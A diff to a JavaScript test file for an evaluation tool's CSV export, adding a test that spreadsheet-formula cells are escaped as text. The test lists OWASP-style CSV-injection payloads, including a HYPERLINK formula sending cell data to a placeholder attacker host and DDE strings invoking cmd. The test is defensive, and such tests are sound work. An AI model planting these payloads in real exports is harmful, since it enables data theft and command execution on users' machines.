@@ -133,13 +133,36 @@ describe('problem selection, runs and export', () => {
     const parsed = parseCsv(csv);
     expect(parsed[0]).toEqual(['run', 'dataset', 'prompt', 'adapter', 'model', 'index', 'pred', 'gold', 'correct', 'output']);
     expect(parsed[1].slice(5)).toEqual(['5', '18', '18', 'true', 'The answer is 18, "quoted"\nnext']);
-    expect(parsed[2].slice(5)).toEqual(['2', '', '3', 'false', '=1+1']);
+    // Model output that looks like a formula is kept as text in a spreadsheet.
+    expect(parsed[2].slice(5)).toEqual(['2', '', '3', 'false', "'=1+1"]);
     expect(
       toJsonl(rows)
         .trim()
         .split('\n')
         .map((l) => JSON.parse(l).index),
     ).toEqual([5, 2]);
+  });
+
+  it('CSV cells that a spreadsheet would run as formulas stay text; numbers, negatives included, stay numbers', () => {
+    // The classic payloads (OWASP "CSV Injection"), as model output or an adapter name could carry them.
+    const payloads = [
+      '=HYPERLINK("http://attacker.invalid/?"&A1,"Click")',
+      "+1+cmd|' /C calc'!A0",
+      "-2+3+cmd|' /C calc'!A0",
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      '\t=1+1',
+      '\r=1+1',
+      '=1+1',
+    ];
+    const rows = payloads.map((output, i) => ({ index: i, output, pred: -3 - i, gold: '-12.5', name: '-1e-3' }));
+    const parsed = parseCsv(toCsv(rows));
+    expect(parsed.slice(1).map((r) => r[1])).toEqual(payloads.map((p) => `'${p}`));
+    for (const r of parsed.slice(1)) {
+      expect(Number(r[2])).toBeLessThan(0);
+      expect(r.slice(3)).toEqual(['-12.5', '-1e-3']);
+    }
+    // Text that merely contains those characters later is untouched.
+    expect(parseCsv(toCsv([{ output: 'a = b + c - d @ e' }]))[1]).toEqual(['a = b + c - d @ e']);
   });
 
   it('dataset URLs: public sources by default, ../shared/data layout under a base URL', () => {
